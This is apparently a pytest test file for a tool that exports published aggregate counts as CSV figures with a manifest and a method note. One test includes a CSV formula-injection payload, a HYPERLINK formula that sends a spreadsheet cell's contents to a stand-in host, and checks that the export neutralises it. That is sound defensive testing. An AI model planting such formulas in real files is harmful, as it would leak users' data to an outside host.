"""Figures for law-makers say what was published and no more: rows, CSV with manifest, and a note on the method."""

from __future__ import annotations

import csv
import hashlib
import json
import math
from pathlib import Path
from typing import Any

import pytest

from minerva.deconfliction.__main__ import main
from minerva.deconfliction.cubes import SCALE
from minerva.deconfliction.policy_figures import CUBES, OptionError, files_of, read_options, rows_of

ANSWER: dict[str, Any] = {
    "published": 1_767_225_600,
    "cubes": {
        "record_type": {"ad": 120, "profile": 31, "hotel": 14, "new_kind": 12},
        "record_type*month": {"ad|2025-11": 40, "profile|2025-11": 12},
        "record_type*city": {"ad|Springfield": 33},
        "city": {"Springfield": 61},
        "month": {"2025-11": 55},
        "size": {"1": 400},
    },
}


def test_a_sector_is_the_sum_of_its_published_kinds_and_nothing_else_is_made_up() -> None:
    rows = rows_of(ANSWER)
    assert {row["cube"] for row in rows} == set(CUBES)
    sectors = {row["sector"]: row["count"] for row in rows if row["cube"] == "sector"}
    assert sectors == {"advertising": 151, "lodging": 14, "other": 12}
    assert [row["count"] for row in rows if row["cube"] == "sector_month"] == [52]
    assert sum(row["count"] for row in rows if row["cube"] == "place") == 61
    assert {row["published"] for row in rows} == {"2026-01-01"}


def test_one_table_is_chosen_and_what_is_no_table_is_refused() -> None:
    request = read_options({"cube": "kind_month", "group": "g_1"})
    assert [row["kind"] for row in rows_of(ANSWER, request.cube)] == ["ad", "profile"]
    assert request.body == {"group_id": "g_1"}
    for option in ({"cube": "street"}, {"group": "a b"}):
        with pytest.raises(OptionError, match=f"^{next(iter(option))}: expected"):
            read_options(option)


def test_the_files_name_their_hashes_and_the_note_its_limits(tmp_path: Path) -> None:
    (tmp_path / "answer.json").write_text(json.dumps(ANSWER), encoding="utf-8")
    assert main(["figures", str(tmp_path / "answer.json"), str(tmp_path / "out")]) == 0
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text("utf-8"))
    for each in manifest["files"]:
        assert hashlib.sha256((tmp_path / "out" / each["name"]).read_bytes()).hexdigest() == each["sha256"]
    with (tmp_path / "out" / "figures.csv").open(encoding="utf-8", newline="") as file:
        assert len(list(csv.DictReader(file))) == manifest["rows"] == len(rows_of(ANSWER))
    assert manifest["least_count"] == 11
    note = (tmp_path / "out" / "method.md").read_text("utf-8")
    for limit in ("fewer than 11", "One institution may stand behind most of a figure", "No growth from week to week"):
        assert limit in note


def test_nothing_published_is_an_empty_table(tmp_path: Path) -> None:
    assert rows_of({"cubes": {}, "published": 0}) == []
    assert files_of({"cubes": {}, "published": 0})["figures.csv"].count(b"\n") == 1
    (tmp_path / "answer.json").write_text('{"cubes": 3}', encoding="utf-8")
    assert main(["figures", str(tmp_path / "answer.json"), str(tmp_path / "out")]) == 1


def test_a_place_that_is_written_as_a_formula_is_none_in_the_file() -> None:
    named = '=HYPERLINK("http://leads.example/?"&A1,"x")'
    figures = files_of({"cubes": {"city": {named: 40}, "record_type*city": {f"ad|{named}": 33}}, "published": 0})
    rows = list(csv.DictReader(figures["figures.csv"].decode("utf-8").splitlines()))
    assert {row["place"] for row in rows if row["place"]} == {f"'{named}"}
    assert [each for row in rows for each in row.values() if each[:1] in set("=+-@")] == []


def test_the_page_states_the_band_that_the_noise_of_a_figure_leaves() -> None:
    ratio = math.exp(-1 / SCALE)
    one = {each: (1 - ratio) / (1 + ratio) * ratio ** abs(each) for each in range(-200, 201)}
    within = sum(one[a] * one[b] for a in one for b in one if abs(a + b) <= 25)
    nearer = sum(one[a] * one[b] for a in one for b in one if abs(a + b) <= 24)
    assert nearer < 0.95 <= within
    view = Path(__file__).parents[2] / "minerva_app/default/data/ui/views/policy_figures.xml"
    assert "at most 25 either way in 95 of 100" in view.read_text(encoding="utf-8")
